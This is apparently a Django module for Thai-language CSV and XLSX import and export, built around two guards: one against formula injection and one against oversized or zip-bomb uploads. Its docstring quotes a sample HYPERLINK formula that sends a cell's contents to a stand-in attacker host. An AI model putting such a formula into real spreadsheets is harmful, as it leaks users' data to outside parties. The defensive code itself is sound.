"""Tabular files in and out: CSV (UTF-8 with a byte-order mark, which Excel needs to read Thai)
and XLSX. Every table the system writes goes through `csv_response`, `xlsx_response` or
`csv_lines`, and every table it reads through `read_rows`, so two guards hold everywhere:

- **Formula injection** (OWASP, "CSV injection"): a text cell that starts with ``=``, ``+``,
  ``-``, ``@``, a tab or a carriage return would be run as a formula by Excel or LibreOffice
  (``=HYPERLINK("https://evil.example/?d="&D2,"x")`` sends a neighbouring cell away). Such a cell
  is written with a leading apostrophe, which spreadsheets read as "this is text". Numbers stay
  numbers: an int, a float or a Decimal is written as it is, and so is a text that is a plain
  number ("-12.5").
- **Upload limits before loading**: the file's size; for XLSX (a zip archive) the unpacked size
  and its proportion to the file, read from the archive's directory before openpyxl parses
  anything (a 1.5 MB workbook holding one 1.5 GB cell is refused at once); the rows and cells
  while reading.

The csv module and openpyxl do the parsing and writing; what is ours is only the two guards
and the choices Thai users need (BOM, cp874 files from Thai Windows, widths, a frozen header).
"""

from __future__ import annotations

import csv
import io
import itertools
import re
import tempfile
import unicodedata
import zipfile
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from typing import Any

from django.http import FileResponse, StreamingHttpResponse
from django.utils.functional import Promise
from django.utils.http import content_disposition_header
from django.utils.translation import gettext as _

from itas.core.errors import DomainError

CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
BOM = "\ufeff"

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


class TabularError(DomainError):
    """A file that cannot be read as a table, or is beyond the limits; the message is Thai."""


# ------------------------------------------------------------------------------------ writing


def neutralise(value: Any) -> Any:
    """The value as a spreadsheet cell that cannot run: text that a spreadsheet would take for
    a formula gets a leading apostrophe; numbers, dates and plain-number text pass unchanged."""
    if isinstance(value, Promise):
        value = str(value)
    if (
        isinstance(value, str)
        and value.startswith(_FORMULA_STARTS)
        and value != "-"  # the usual "nothing here", which no spreadsheet reads as a formula
        and not _PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise(v) for v in row]


class _Echo:
    """A file-like object whose write() returns the line, so csv.writer can feed a stream."""

    def write(self, value: str) -> str:
        return value


def csv_lines(
    header: Sequence[Any] | None,
    rows: Iterable[Iterable[Any]],
    *,
    bom: bool = True,
    lineterminator: str = "\r\n",
) -> Iterator[str]:
    """The lines of a CSV file, each cell neutralised; the BOM first so Excel reads Thai."""
    writer = csv.writer(_Echo(), lineterminator=lineterminator)
    if bom:
        yield BOM
    if header is not None:
        yield writer.writerow(safe_row(header))
    for row in rows:
        yield writer.writerow(safe_row(row))


def _attachment(response, filename: str):
    # content_disposition_header writes filename* (RFC 5987) for Thai names, which a plain
    # filename="…" header cannot carry.
    response["Content-Disposition"] = content_disposition_header(True, filename)
    return response


def csv_response(
    filename: str, header: Sequence[Any] | None, rows: Iterable[Iterable[Any]]
) -> StreamingHttpResponse:
    """A streamed CSV download: rows are written as they are read, memory stays flat."""
    response = StreamingHttpResponse(csv_lines(header, rows), content_type=CSV_TYPE)
    return _attachment(response, filename)


def display_width(text: str) -> int:
    """Columns a text takes on screen: Thai vowel and tone marks sit above or below a letter
    and take no column of their own."""
    return sum(
        1 for ch in text if not unicodedata.combining(ch) and unicodedata.category(ch) != "Mn"
    )


WIDTH_SAMPLE = 200  # rows read ahead to size the columns; the rest stream after them
MIN_WIDTH, MAX_WIDTH = 6, 60


def _widths(header: Sequence[Any], sample: list[list[Any]]) -> list[float]:
    widths = []
    for i, name in enumerate(header):
        longest = max(
            [display_width(str(name))]
            + [display_width(str(r[i])) for r in sample if i < len(r) and r[i] is not None],
        )
        widths.append(float(min(MAX_WIDTH, max(MIN_WIDTH, longest + 2))))
    return widths


def xlsx_file(
    header: Sequence[Any],
    rows: Iterable[Iterable[Any]],
    *,
    title: str = "",
    sheet: str = "",
    widths: Sequence[float] | None = None,
):
    """An XLSX workbook in a temporary file (open, at position 0): an optional bold title row,
    the bold header row frozen under it, columns sized to their content, each cell neutralised.

    openpyxl's write-only mode streams rows to disk, so memory stays flat whatever the number
    of rows; the first WIDTH_SAMPLE rows are read ahead to size the columns."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    names = [str(h) for h in header]
    iterator = iter(rows)
    sample = [safe_row(r) for r in itertools.islice(iterator, WIDTH_SAMPLE)]
    wb = Workbook(write_only=True)
    # A sheet title may not hold []:*?/\ and is at most 31 characters.
    ws = wb.create_sheet(title=re.sub(r"[\[\]:*?/\\]", " ", sheet or "Sheet1")[:31])
    for i, width in enumerate(widths or _widths(names, sample), start=1):
        ws.column_dimensions[get_column_letter(i)].width = width
    header_row = 2 if title else 1
    ws.freeze_panes = f"A{header_row + 1}"
    if title:
        cell = WriteOnlyCell(ws, value=neutralise(str(title)))
        cell.font = Font(bold=True, size=13)
        ws.append([cell])
    cells = []
    for name in names:
        cell = WriteOnlyCell(ws, value=neutralise(name))
        cell.font = Font(bold=True)
        cells.append(cell)
    ws.append(cells)
    for sampled in sample:
        ws.append(sampled)
    for row in iterator:
        ws.append(safe_row(row))
    tmp = tempfile.TemporaryFile(suffix=".xlsx")  # noqa: SIM115 - the caller (FileResponse) closes it
    wb.save(tmp)
    tmp.seek(0)
    return tmp


def xlsx_response(
    filename: str,
    header: Sequence[Any],
    rows: Iterable[Iterable[Any]],
    *,
    title: str = "",
    sheet: str = "",
    widths: Sequence[float] | None = None,
) -> FileResponse:
    tmp = xlsx_file(header, rows, title=title, sheet=sheet, widths=widths)
    return FileResponse(tmp, as_attachment=True, filename=filename, content_type=XLSX_TYPE)


def table_response(fmt: str, basename: str, header: Sequence[Any], rows, **xlsx_options):
    """The table as `basename.csv` or `basename.xlsx`."""
    if fmt == "csv":
        return csv_response(f"{basename}.csv", header, rows)
    if fmt == "xlsx":
        return xlsx_response(f"{basename}.xlsx", header, rows, **xlsx_options)
    raise ValueError(fmt)


# ------------------------------------------------------------------------------------ reading

MB = 1024 * 1024


@dataclass(frozen=True)
class Limits:
    """What an upload may hold. The defaults fit a list or a contact file of a few thousand
    rows; the registry import passes larger ones.

    An XLSX is a zip of XML: real workbooks unpack to 5-20 times their size (measured on the
    DLA registry and Excel/LibreOffice exports: 6-12x); 100x is the mark of a file built to
    exhaust memory, as is an unpacked size beyond `max_unpacked`."""

    max_bytes: int = 2 * MB
    max_rows: int = 10_000
    max_cells: int = 500_000  # cells scanned, blank ones included
    max_unpacked: int = 50 * MB
    max_ratio: int = 100
    max_members: int = 500  # files inside the XLSX archive


def _size(n: int) -> str:
    return f"{n / MB:.1f} MB" if n >= MB else f"{max(1, n // 1024)} KB"


def _too_many_rows(limits: Limits) -> TabularError:
    return TabularError(
        _("The file has more than %(n)s rows; split it into smaller files.")
        % {"n": f"{limits.max_rows:,}"}
    )


def _decode(data: bytes) -> str:
    if b"\x00" in data[:4096]:
        raise TabularError(_("The file is not a text file: save it as CSV UTF-8 or XLSX."))
    try:
        return data.decode("utf-8-sig")
    except UnicodeDecodeError as exc:
        utf8_error = exc
    try:
        # Thai Windows saves "CSV" in its own code page (TIS-620 / cp874).
        return data.decode("cp874")
    except UnicodeDecodeError:
        raise TabularError(
            _(
                "The file is not UTF-8 text (unreadable bytes at position %(pos)d). "
                "Save it as CSV UTF-8 or XLSX and try again."
            )
            % {"pos": utf8_error.start}
        ) from utf8_error


def _csv_rows(data: bytes, limits: Limits, delimiters: str) -> Iterator[tuple[int, list[str]]]:
    text = _decode(data)
    dialect: type[csv.Dialect] | csv.Dialect = csv.excel
    if len(delimiters) > 1:
        try:
            dialect = csv.Sniffer().sniff(text[:2000], delimiters=delimiters)
        except csv.Error:
            dialect = csv.excel
    reader = csv.reader(io.StringIO(text, newline=""), dialect, strict=True)
    start, count = 1, 0
    try:
        for row in reader:
            if any(c.strip() for c in row):
                count += 1
                if count > limits.max_rows:
                    raise _too_many_rows(limits)
                yield start, row
            start = reader.line_num + 1
    except csv.Error as exc:
        raise TabularError(
            _("The CSV file is malformed near line %(line)d: %(error)s")
            % {"line": reader.line_num, "error": exc}
        ) from exc


def _text_rows(data: bytes, limits: Limits) -> Iterator[tuple[int, list[str]]]:
    count = 0
    for number, line in enumerate(_decode(data).splitlines(), start=1):
        if line.strip():
            count += 1
            if count > limits.max_rows:
                raise _too_many_rows(limits)
            yield number, [line]


def check_archive(data: bytes, limits: Limits) -> None:
    """Refuse an XLSX whose zip directory announces more than a workbook of its size holds.

    The announced sizes can be trusted as an upper bound: Python's zipfile (which openpyxl
    reads through) stops inflating a member at its announced size and fails its CRC check."""
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            members = archive.infolist()
    except (zipfile.BadZipFile, ValueError, OSError) as exc:
        raise TabularError(_("The file is not a readable XLSX workbook.")) from exc
    if len(members) > limits.max_members:
        raise TabularError(_("The file is not a readable XLSX workbook."))
    unpacked = sum(m.file_size for m in members)
    if unpacked > limits.max_unpacked or unpacked > limits.max_ratio * max(len(data), 10_000):
        raise TabularError(
            _(
                "The workbook is refused: its %(size)s unpack to %(unpacked)s, far more than a "
                "table of this size holds. Save the sheet again as a new XLSX or as CSV UTF-8."
            )
            % {"size": _size(len(data)), "unpacked": _size(unpacked)}
        )


def _cell_text(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, float) and value.is_integer():
        value = int(value)  # a code or a phone number typed into a number cell
    return str(value)


def _xlsx_rows(data: bytes, limits: Limits) -> Iterator[tuple[int, list[str]]]:
    check_archive(data, limits)
    from openpyxl import load_workbook

    try:
        book = load_workbook(io.BytesIO(data), read_only=True, data_only=True)
    except Exception as exc:  # noqa: BLE001 - openpyxl raises many kinds on a bad file
        raise TabularError(_("The file is not a readable XLSX workbook.")) from exc
    try:
        if not book.worksheets:
            raise TabularError(_("The file is not a readable XLSX workbook."))
        sheet = book.worksheets[0]
        # The stored dimension can claim 16,384 columns × a million rows; forget it, and count
        # the cells actually read instead.
        sheet.reset_dimensions()
        count = cells = 0
        for number, row in enumerate(sheet.iter_rows(values_only=True), start=1):
            cells += max(1, len(row))
            if cells > limits.max_cells:
                raise TabularError(
                    _("The workbook has more than %(n)s cells; split it into smaller files.")
                    % {"n": f"{limits.max_cells:,}"}
                )
            texts = [_cell_text(v) for v in row]
            if any(t.strip() for t in texts):
                count += 1
                if count > limits.max_rows:
                    raise _too_many_rows(limits)
                yield number, texts
    finally:
        book.close()


def detect_format(data: bytes, filename: str, formats: Sequence[str], fallback: str | None) -> str:
    name = (filename or "").lower()
    if data[:4] == b"PK\x03\x04" or name.endswith((".xlsx", ".xlsm")):
        kind = "xlsx"
    elif name.endswith(".csv"):
        kind = "csv"
    elif name.endswith(".txt"):
        kind = "txt" if "txt" in formats else "csv"
    elif "." not in name.rsplit("/", 1)[-1] and fallback:
        kind = fallback
    else:
        kind = ""
    if kind not in formats:
        raise TabularError(_("Upload a CSV or XLSX file."))
    return kind


def read_rows(
    data: bytes,
    filename: str = "",
    *,
    limits: Limits = Limits(),  # noqa: B008 - frozen, shared safely
    formats: Sequence[str] = ("csv", "xlsx"),
    fallback: str | None = "csv",
    delimiters: str = ",",
) -> list[tuple[int, list[str]]]:
    """The non-blank rows of the first sheet of a CSV, XLSX (or, if allowed, plain-text) file as
    (line number, cells as text). Raises TabularError, with a Thai message, for a file that
    is empty, unreadable or beyond `limits`; the limits are checked before anything is loaded.

    `fallback` is the format of a file whose name has no extension; `delimiters` longer than
    one character lets the CSV reader guess among them (Excel in Thai saves ';' or tab too)."""
    if len(data) > limits.max_bytes:
        raise TabularError(_("The file is larger than %(max)s.") % {"max": _size(limits.max_bytes)})
    if not data or not data.strip():
        raise TabularError(_("The file is empty."))
    kind = detect_format(data, filename, formats, fallback)
    if kind == "xlsx":
        rows = list(_xlsx_rows(data, limits))
    elif kind == "txt":
        rows = list(_text_rows(data, limits))
    else:
        rows = list(_csv_rows(data, limits, delimiters))
    if not rows:
        raise TabularError(_("The file is empty."))
    return rows
